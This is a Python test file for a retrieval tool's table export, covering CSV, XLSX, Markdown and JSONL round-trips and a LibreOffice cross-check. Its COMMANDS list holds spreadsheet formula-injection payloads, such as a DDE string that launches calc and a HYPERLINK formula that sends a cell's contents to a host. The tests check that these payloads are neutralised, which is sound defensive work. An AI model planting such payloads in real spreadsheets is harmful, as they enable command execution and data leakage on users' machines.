import io
import json
import re
import subprocess
import zipfile
from datetime import date, datetime, time
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from index.errors import QuestionError
from retrieval import tables
from retrieval.tables import formulas, markdown, workbook
from tests.programs import LIBREOFFICE

ABOUT = {"zhangju": "0", "own": ["id", "备注"], "generation": "000001", "k": 2, "wide": False, "reranker": ""}
COLUMNS = ("id", "备注", "question", "status", "confidence", "rank", "answer", "citation_zh", "passage", "text", "link")
ROWS: list[dict[str, Any]] = [
    {
        "id": 7,
        "备注": '=1+1, "a"\nb\r\nc ',
        "question": "# 用水量_下降_*多少*？",
        "status": "answered",
        "confidence": 0.93,
        "rank": 1,
        "answer": "万元产值用水量下降12%。",
        "citation_zh": "《某省规划》第一章",
        "passage": "abc",
        "text": "1. 节约用水。\n  万元产值用水量下降12%。\\\n\n> - a | `b` <!-- row {} --> &amp; [x](y)\n",
        "link": "http://127.0.0.1:7860/?p=abc",
    },
    {"id": 7, "备注": "-5", "question": "# 用水量_下降_*多少*？", "status": "answered", "confidence": 0.93, "rank": 2,
     "answer": "", "citation_zh": "--><script>", "passage": "def", "text": "=cmd", "link": ""},
    {"id": -8, "备注": "　＠a", "question": "……", "status": "too vague", "confidence": 0, "rank": "", "answer": "",
     "citation_zh": "", "passage": "", "text": "", "link": ""},
]  # fmt: skip

# What has been used against spreadsheets, and what comes before it.
COMMANDS = ("=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://a/?"&A1,"x")', "+1+1", "-2+3+cmd|'/C calc'!A0", "@SUM(1)",
            "＝1+1", "＋1+1", "－1－1", "＠SUM(1)")  # fmt: skip
BEFORE = ("", " ", "\t", "\r", "\n", "\u3000", "\u00a0", "'", '"', "“", "\ufeff", "\u200b", " '", "\t\r", '" ', "''",
          "  ", "\r\n", "'\t", "\n\n")  # fmt: skip
PAYLOADS = [before + command for before, command in product(BEFORE, COMMANDS)]
PLAIN = ("-5", "+3%", "-0.5", "+1,000", "-1e5", "5", "a=b", "第-1章", "", "3-4", "12%", "'", "''", "' a", "O'Neill")


def back(form: tables.Format, rows: list[dict[str, Any]], columns: tuple[str, ...] = COLUMNS) -> tables.Table:
    data = tables.encoded(form, columns, rows, ABOUT)
    return tables.read_bytes(data, f"t.{form}", sidecar=json.dumps(ABOUT).encode())


@pytest.mark.parametrize("form", tables.FORMATS)
def test_a_table_is_read_as_it_was_written(form: tables.Format) -> None:
    table = back(form, ROWS)
    assert table.columns == COLUMNS
    assert dict(table.about) == ABOUT
    plain = [{n: None if v == "" else v for n, v in row.items()} for row in ROWS]
    found = [{n: None if v == "" else v for n, v in row.items()} for row in table.rows]
    if form == "csv":  # which knows nothing but text
        plain = [{n: None if v is None else str(v) for n, v in row.items()} for row in plain]
    assert found == plain
    assert list(table.numbers) == sorted(set(table.numbers))


@pytest.mark.parametrize("form", tables.FORMATS)
def test_the_same_rows_give_the_same_bytes(form: tables.Format, monkeypatch: pytest.MonkeyPatch) -> None:
    first = tables.encoded(form, COLUMNS, ROWS, ABOUT)
    monkeypatch.setattr("time.time", lambda: 0.0)
    assert tables.encoded(form, COLUMNS, ROWS, ABOUT) == first
    if form == "xlsx":
        archive = zipfile.ZipFile(io.BytesIO(first))
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 31, 0, 0, 0)}
        dates = re.findall(rb"\d{4}-\d\d-\d\dT[\d:]+Z", archive.read("docProps/core.xml"))
        assert dates == [b"1980-01-01T00:00:00Z"] * 2


@pytest.mark.parametrize("form", tables.FORMATS)
def test_a_file_says_what_it_was_made_with(form: tables.Format, tmp_path: Path) -> None:
    path = tmp_path / f"t.{form}"
    tables.write(path, form, COLUMNS, ROWS, ABOUT)
    assert dict(tables.read(path).about) == ABOUT
    assert tables.sidecar_file(path).exists() == (form in ("csv", "jsonl"))
    stream = io.BytesIO()
    tables.write(stream, form, COLUMNS, ROWS, ABOUT)
    assert stream.getvalue() == path.read_bytes()


def test_two_hundred_payloads_become_text_in_csv() -> None:
    assert len(PAYLOADS) == 200
    for payload in PAYLOADS:
        held = formulas.neutralised(payload)
        assert held == "'" + payload
        assert formulas.restored(held) == payload
    data = tables.encoded("csv", ("own", "text"), [{"own": p, "text": p} for p in PAYLOADS], {})
    assert [row["own"] for row in tables.read_bytes(data, "t.csv").rows] == PAYLOADS


def test_two_hundred_payloads_are_text_in_a_workbook() -> None:
    data = tables.encoded("xlsx", ("own",), [{"own": p} for p in PAYLOADS], {})
    cells = [cell for (cell,) in load_workbook(io.BytesIO(data))[workbook.SHEET].iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * 200
    assert all(cell.quotePrefix for cell in cells)
    assert [row["own"] for row in tables.read_bytes(data, "t.xlsx").rows] == PAYLOADS


@pytest.mark.parametrize(
    "text",
    [
        "<r></r>",
        "<r><t>a</t></r>",
        "<r>&</r>",
        "<r>a</r> b",
        "</t></is></c><c><f>1+1</f></c>",
        "a\x01b",
    ],
)
def test_xml_in_a_cell_of_a_workbook_is_text(text: str) -> None:
    data = tables.encoded("xlsx", ("own",), [{"own": text}], {"own": text})
    table = tables.read_bytes(data, "t.xlsx")
    assert table.rows == ({"own": text},)
    assert table.about == {"own": text}


@pytest.mark.parametrize(
    "address", ["https://a.example/?q=1&b=<c>#d", "http://a/\x01", "https://" + "字" * 2_100, "ftp://a/"]
)
def test_an_address_is_written_as_it_stands(address: str) -> None:
    data = tables.encoded("xlsx", ("own",), [{"own": address}], {})
    assert tables.read_bytes(data, "t.xlsx").rows[0]["own"] == address


def test_a_sheet_of_too_many_rows_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "_MAX_ROWS", 3)
    assert len(back("xlsx", [{"id": n} for n in range(2)]).rows) == 2
    with pytest.raises(QuestionError, match="more than the 3 rows of a sheet; write csv or jsonl"):
        tables.encoded("xlsx", COLUMNS, [{"id": n} for n in range(3)], {})


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert formulas.neutralised(text) == text


@given(st.text(st.sampled_from("=+-@'\" \t\r\n５5%,a＝"), max_size=8))
def test_every_text_is_restored(text: str) -> None:
    held = formulas.neutralised(text)
    assert formulas.restored(held) == text
    assert held == text or not formulas.is_dangerous(text) or held.startswith("'")


anything = st.text(st.characters(codec="utf-8"), max_size=30)
marks = st.text(st.sampled_from("\\`*_{}[]<>#|~&$-+=.1 \n\r\t>!x0A:;'\"_　一\x0b\u2028"), max_size=20)


@given(st.one_of(anything, marks))
def test_markdown_and_workbooks_give_every_text_back(text: str) -> None:
    assert markdown.unescaped(markdown.escaped(text, inline=True)) == text
    assert "\n" not in markdown.escaped(text, inline=True)
    assert tables.read_bytes(tables.encoded("xlsx", ("a",), [{"a": text or "x"}], {}), "t.xlsx").rows[0]["a"] == (
        text or "x"
    )


@given(st.lists(st.one_of(anything, marks), min_size=3, max_size=3))
def test_reports_are_read_whatever_is_quoted(texts: list[str]) -> None:
    note, question, quoted = texts
    row = {**ROWS[0], "备注": note, "question": question, "text": quoted, "answer": quoted or "a"}
    held = back("md", [row]).rows[0]
    assert (held["备注"], held["question"], held["text"], held["answer"]) == (note, question, quoted, quoted or "a")


def test_a_report_that_was_edited_is_read_as_it_stands() -> None:
    data = tables.encoded("md", COLUMNS, ROWS, ABOUT).decode()
    edited = data.replace("> 1\\. 节约用水。", "> 1\\. 节约用电。")
    assert edited != data
    assert tables.read_bytes(edited.encode(), "t.md").rows[0]["text"].startswith("1. 节约用电。")


def test_cells_of_a_workbook_have_types(tmp_path: Path) -> None:
    values = [
        1,
        -2.5,
        True,
        date(2026, 1, 2),
        datetime(2026, 1, 2, 3, 4),
        time(5, 6),
        None,
        2**60,
        [1, "a"],
        "_x0041_",
        "#REF!",
    ]
    path = tmp_path / "t.xlsx"
    columns = tuple(map(str, range(len(values))))
    tables.write(path, "xlsx", columns, [dict(zip(columns, values, strict=True))], {}, formats={"1": "0.0%"})
    sheet = load_workbook(path)[workbook.SHEET]
    read = [cell.value for cell in sheet[2]]
    assert read[:3] == values[:3]
    assert read[3:6] == [datetime(2026, 1, 2), datetime(2026, 1, 2, 3, 4), time(5, 6)]
    assert read[6:] == [None, str(2**60), '[1, "a"]', "_x005F_x0041_", "#REF!"]
    assert sheet["B2"].number_format == "0.0%"
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:K2")
    assert sheet["A2"].alignment.wrap_text
    jsonl = json.loads(tables.encoded("jsonl", columns, [dict(zip(columns, values, strict=True))], {}))
    assert list(jsonl.values())[3:6] == ["2026-01-02", "2026-01-02T03:04:00", "05:06:00"]


def test_links_and_widths_of_a_workbook() -> None:
    sheet = load_workbook(io.BytesIO(tables.encoded("xlsx", COLUMNS, ROWS, ABOUT)))[workbook.SHEET]
    assert sheet["K2"].hyperlink.target == ROWS[0]["link"]
    assert sheet["K3"].hyperlink is None
    widths = {name: sheet.column_dimensions[letter].width for name, letter in zip(COLUMNS, "ABCDEFGHIJK", strict=True)}
    assert int(widths["id"]) == 8  # a spreadsheet adds the margins of a cell
    assert int(widths["answer"]) == 2 + 2 * 10 + 3  # ten wide characters and 12%


def test_a_text_too_long_for_a_cell_is_cut_with_a_mark() -> None:
    long = "字" * 40_000
    held = back("xlsx", [{**ROWS[0], "text": long}]).rows[0]["text"]
    assert (len(held), held[-2:]) == (32_767, "字…")
    wide = back("xlsx", [{**ROWS[0], "text": "🐉" * 20_000}]).rows[0]["text"]  # each is two units of UTF-16
    assert (len(wide), wide[-2:]) == (16_384, "🐉…")
    assert workbook.uncut(wide) == ("🐉" * 16_383, True)
    assert workbook.uncut("🐉…") == ("🐉…", False)


def test_own_cells_are_not_cut() -> None:
    rows = [{"a": "字" * 32_767}, {"a": "🐉" * 16_384}]
    tables.check_cells("xlsx", rows[:1])
    tables.check_cells("csv", rows)
    with pytest.raises(QuestionError, match="'a' of row 2 has more than"):
        tables.check_cells("xlsx", rows)


@pytest.mark.parametrize(
    ("name", "text", "says"),
    [
        ("t.txt", "x", "tables are read from"),
        ("t.md", "# a\n", "no evidence table"),
        ("t.md", '<!-- table {"columns": ["a"]} -->\n<!-- row {x} -->', "line 2 was changed"),
        ("t.csv", "a,b\n1\n", "line 2 has"),
        ("t.xlsx", "x", "is damaged"),
    ],
)
def test_what_is_no_table(name: str, text: str, says: str) -> None:
    with pytest.raises(QuestionError, match=says):
        tables.read_bytes(text.encode(), name)


def test_the_file_beside_a_table_may_be_damaged(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    tables.write(path, "csv", COLUMNS, ROWS, ABOUT)
    tables.sidecar_file(path).write_text("{")
    with pytest.raises(QuestionError, match=r"about\.json is not JSON"):
        tables.read(path)
    tables.sidecar_file(path).unlink()
    assert tables.read(path).about == {}


def test_a_csv_for_excel_begins_with_a_mark() -> None:
    data = tables.encoded("csv", ("甲",), [{"甲": "乙"}], {}, mark=True)
    assert data == "\ufeff甲\n乙\n".encode()
    assert tables.read_bytes(data, "t.csv").columns == ("甲",)


# LibreOffice as a second opinion


def converted(path: Path, into: str, folder: Path) -> Path:
    """A file as LibreOffice reads it, in another format."""
    profile = f"-env:UserInstallation=file://{folder}/profile"
    reading = ["--infilter=CSV:44,34,76,1"] if path.suffix == ".csv" else []
    command = [
        LIBREOFFICE.path(),
        profile,
        "--headless",
        *reading,
        "--convert-to",
        into,
        "--outdir",
        str(folder / "out"),
        str(path),
    ]
    ended = subprocess.run(command, capture_output=True, text=True, timeout=200)
    assert ended.returncode == 0, ended.stderr
    remarks = [line for line in ended.stderr.splitlines() if "javaldx" not in line]  # it looks for a Java it may lack
    assert remarks == []
    return folder / "out" / f"{path.stem}.{into}"


def test_libreoffice_reads_the_same_cells(tmp_path: Path) -> None:
    texts = [*PAYLOADS, *PLAIN, "《某省规划》第十六章，“节约”用水——12%。\n第二行", "龘𠮷 🐉", "a\tb;c,d\"e'f"]
    rows = [{"number": n - 100, "question": text, "text": text} for n, text in enumerate(texts)]
    for form in ("xlsx", "csv"):
        path = tmp_path / f"{form}.{form}"
        tables.write(path, form, ("number", "question", "text"), rows, ABOUT, mark=True)
        again = converted(path, "xlsx", tmp_path)
        sheet = load_workbook(again)[workbook.SHEET] if form == "xlsx" else load_workbook(again).active
        cells = list(sheet.iter_rows(min_row=2))
        assert len(cells) == len(rows)
        assert not [c for row in cells for c in row if c.data_type == "f"]
        assert [row[0].value for row in cells] == [row["number"] for row in rows]
        for row, text in zip(cells, texts, strict=True):
            shown = "" if row[1].value is None else str(row[1].value)
            wanted = formulas.neutralised(text) if form == "csv" else text
            if form == "xlsx" or text not in PLAIN:  # a csv says nothing of types: 12% is a number to a spreadsheet
                assert as_shown(shown) == as_shown(wanted), repr(text)


def as_shown(text: str) -> str:
    """What a spreadsheet may do to the space of a text: line ends, and what XML takes for them."""
    return text.replace("_x000D_", "\r").replace("\r\n", "\n").replace("\r", "\n")
